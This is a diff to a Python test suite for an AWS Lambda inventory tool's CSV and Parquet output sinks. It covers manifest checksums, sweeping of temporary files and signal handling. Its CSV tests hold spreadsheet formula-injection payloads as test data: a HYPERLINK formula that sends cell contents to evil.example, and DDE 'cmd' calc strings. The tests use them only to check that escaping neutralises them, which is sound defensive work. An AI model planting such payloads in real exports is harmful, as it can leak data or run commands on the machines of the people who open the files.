@@ -4,12 +4,17 @@ unwritable destinations. S3 destinations are tested in test_destination.py."""
 from __future__ import annotations
 
 import csv
+import fcntl
+import hashlib
 import json
 import os
+import signal
+import sys
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import duckdb
 import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
@@ -19,6 +24,7 @@ import inventory.sink
 from inventory.destination import file_destination, resolve_destination
 from inventory.errors import ExitCode, OutputError
 from inventory.schema import INVENTORY_SCHEMA, STATUS_SCHEMA, function_batch
+from inventory.signals import Stopped, stop_on_signals
 from inventory.sink import (
     AtomicTableFile,
     Format,
@@ -545,11 +551,28 @@ def test_local_file_gets_a_manifest_beside_it(tmp_path: Path) -> None:
     sink.commit(_status(), _manifest())
     assert _listing(tmp_path) == ["x.manifest.json", "x.parquet", "x.status.parquet"]
     text = (tmp_path / "x.manifest.json").read_text(encoding="utf-8")
-    assert json.loads(text) == _manifest()
+    written = json.loads(text)
+    assert {k: v for k, v in written.items() if k != "files"} == _manifest()
+    assert written["files"] == {
+        "inventory": {
+            "sha256": _sha256(tmp_path / "x.parquet"),
+            "bytes": (tmp_path / "x.parquet").stat().st_size,
+            "rows": 1,
+        },
+        "status": {
+            "sha256": _sha256(tmp_path / "x.status.parquet"),
+            "bytes": (tmp_path / "x.status.parquet").stat().st_size,
+            "rows": 1,
+        },
+    }
     assert text.endswith("\n") and text.index('"a"') < text.index('"b"')  # sorted keys
     assert text.startswith('{\n  "a": null,')  # pretty-printed
     assert (tmp_path / "x.manifest.json").stat().st_mode & 0o777 == 0o666 & ~_current_umask()
     assert pq.read_table(tmp_path / "x.parquet").num_rows == 1
+
+
+def _sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
 def _current_umask() -> int:
@@ -645,3 +668,147 @@ def test_legacy_inventory_sink_is_a_run_sink_without_manifest(tmp_path: Path) ->
     assert (sink.path, sink.status_path) == (tmp_path / "inv.parquet", tmp_path / "inv.status.parquet")
     sink.commit(_status())
     assert _listing(tmp_path) == ["inv.parquet", "inv.status.parquet"]
+
+
+# --- CSV cells a spreadsheet would run as formulas ------------------------------------------------------
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''+two quotes",
+    "'plain quote",
+    "a = b",
+    "-",
+    "plain",
+)
+# The expressions docs/schema.md gives readers; the tests below use them verbatim.
+PANDAS_PATTERN, PANDAS_REPLACEMENT = r"^'('*[=+\-@\t\r])", r"\1"
+PANDAS_UNESCAPE = f'.replace(r"{PANDAS_PATTERN}", r"{PANDAS_REPLACEMENT}", regex=True)'  # as in the docs
+DUCKDB_MACRO = """CREATE MACRO csv_unescape(s) AS regexp_replace(s, '^''(''*[=+\\-@\\t\\r])', '\\1');"""
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def _hostile_inventory(tmp_path: Path) -> tuple[Path, Path]:
+    path = tmp_path / "inventory.csv"
+    sink = _sink(path, Format.CSV)
+    items = [_item(f"f{i}", Description=text) for i, text in enumerate(HOSTILE_CELLS)]
+    account = Account("012345678901", "=cmd|'/C calc'!A0", ("@team",), "arn:aws:iam::012345678901:role/R", None)
+    sink.write(function_batch(Target(account, "eu-west-1"), SNAPSHOT, items))
+    status = _status(len(HOSTILE_CELLS)).to_pylist()
+    for row, text in zip(status, HOSTILE_CELLS, strict=True):
+        row.update(status="failed", error_code="+Code", error_message=text, function_count=None)
+    sink.commit(pa.Table.from_pylist(status, schema=STATUS_SCHEMA))
+    return path, sink.status_path
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    for path in _hostile_inventory(tmp_path):
+        with path.open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert cells, path
+        assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []
+    rows = _read_csv(tmp_path / "inventory.csv")
+    assert [r["description"] for r in rows][:3] == [f"'{HOSTILE_CELLS[0]}", f"'{HOSTILE_CELLS[1]}", "'-2+3"]
+    assert rows[0]["account_name"] == "'=cmd|'/C calc'!A0"
+    assert json.loads(rows[0]["account_tags"]) == ["@team"]  # a JSON list starts with `[`: never escaped
+    assert rows[0]["memory_size"] == "128"
+    parquet = tmp_path / "inventory.parquet"  # Parquet is typed: never escaped
+    sink = _sink(parquet, Format.PARQUET)
+    sink.write(function_batch(_target(), SNAPSHOT, [_item("f", Description=HOSTILE_CELLS[0])]))
+    sink.commit(_status())
+    assert pq.read_table(parquet).column("description").to_pylist() == [HOSTILE_CELLS[0]]
+
+
+def test_csv_escaping_is_undone_by_the_documented_pandas_and_duckdb_expressions(tmp_path: Path) -> None:
+    docs = (ROOT / "docs" / "schema.md").read_text(encoding="utf-8")
+    assert PANDAS_UNESCAPE in docs and DUCKDB_MACRO in docs
+    assert PANDAS_UNESCAPE in (ROOT / "README.md").read_text(encoding="utf-8")
+    inventory, status = _hostile_inventory(tmp_path)
+
+    frame = pd.read_csv(inventory, dtype={"account_id": str}).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
+    assert frame["description"].tolist() == list(HOSTILE_CELLS)
+    assert set(frame["account_name"]) == {"=cmd|'/C calc'!A0"}
+    assert frame["memory_size"].tolist() == [128] * len(HOSTILE_CELLS)
+    status_frame = pd.read_csv(status).replace(PANDAS_PATTERN, PANDAS_REPLACEMENT, regex=True)
+    assert status_frame["error_message"].tolist() == list(HOSTILE_CELLS)
+
+    with duckdb.connect() as con:
+        con.execute(DUCKDB_MACRO)
+        got = con.execute(
+            "SELECT csv_unescape(description), csv_unescape(account_name) FROM read_csv(?)"
+            " ORDER BY length(function_name), function_name",
+            [str(inventory)],
+        ).fetchall()
+        errors = con.execute("SELECT csv_unescape(error_message) FROM read_csv(?)", [str(status)]).fetchall()
+    assert [d for d, _ in got] == list(HOSTILE_CELLS)
+    assert {a for _, a in got} == {"=cmd|'/C calc'!A0"}
+    assert [e for (e,) in errors] == list(HOSTILE_CELLS)
+
+
+# --- temporary files left by a killed run; signals during the renames -----------------------------------
+
+
+def test_a_run_sweeps_the_unlocked_temp_files_of_its_own_names_only(tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("keep", encoding="utf-8")
+    dead = [
+        tmp_path / ".x.parquet.dead.tmp",
+        tmp_path / ".x.status.parquet.dead.tmp",
+        tmp_path / ".x.manifest.json.d.tmp",
+    ]
+    for path in dead:
+        path.write_bytes(b"left by a SIGKILLed run")
+    live = tmp_path / ".x.parquet.live.tmp"
+    live.write_bytes(b"another run still writing")
+    (tmp_path / ".x.parquet.link.tmp").symlink_to(victim)
+    (tmp_path / ".other.parquet.dead.tmp").write_bytes(b"not ours")
+    with live.open("rb") as holder:
+        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)  # what a live run holds on its temporary files
+        sink = open_sink(resolve_destination(str(tmp_path / "x.parquet"), None, False, DAY, None), STATUS_SCHEMA)
+        sink.commit(_status(), _manifest())
+    assert [p for p in dead if p.exists()] == []
+    assert live.read_bytes() == b"another run still writing"
+    assert victim.read_text(encoding="utf-8") == "keep"
+    assert _listing(tmp_path) == [
+        ".other.parquet.dead.tmp",
+        ".x.parquet.link.tmp",
+        ".x.parquet.live.tmp",
+        "victim",
+        "x.manifest.json",
+        "x.parquet",
+        "x.status.parquet",
+    ]
+
+
+def test_a_signal_during_the_renames_is_delivered_once_all_three_files_are_in_place(tmp_path: Path) -> None:
+    """SIGTERM lands the moment the inventory is renamed (an audit hook sends it): the status file and the
+    manifest still follow before it acts, so they are never left from the previous run."""
+    out = tmp_path / "x.parquet"
+    first = open_sink(resolve_destination(str(out), None, False, DAY, None), STATUS_SCHEMA)
+    first.commit(_status(), _manifest("previous"))
+    armed = {"on": True}
+
+    def hook(event: str, args: tuple[Any, ...]) -> None:
+        if event == "os.rename" and armed["on"] and str(args[1]) == str(out):
+            armed["on"] = False
+            os.kill(os.getpid(), signal.SIGTERM)
+
+    sink = open_sink(resolve_destination(str(out), None, False, DAY, None), STATUS_SCHEMA)
+    sink.write(_batch("a", "b"))
+    sys.addaudithook(hook)  # cannot be removed; `armed` makes it fire once
+    with stop_on_signals(), pytest.raises(Stopped) as stopped:
+        sink.commit(_status(2), _manifest("next"))
+    assert not armed["on"], "the signal was sent"
+    assert stopped.value.signum == signal.SIGTERM and stopped.value.published
+    assert stopped.value.describe() == "lambda-inventory: terminated (SIGTERM); the output had already been published"
+    manifest = json.loads((tmp_path / "x.manifest.json").read_text(encoding="utf-8"))
+    assert manifest["run_id"] == "next"
+    for name, path in (("inventory", out), ("status", tmp_path / "x.status.parquet")):
+        assert manifest["files"][name]["sha256"] == _sha256(path)
+    assert pq.read_table(out).num_rows == 2
+    assert _listing(tmp_path) == ["x.manifest.json", "x.parquet", "x.status.parquet"]
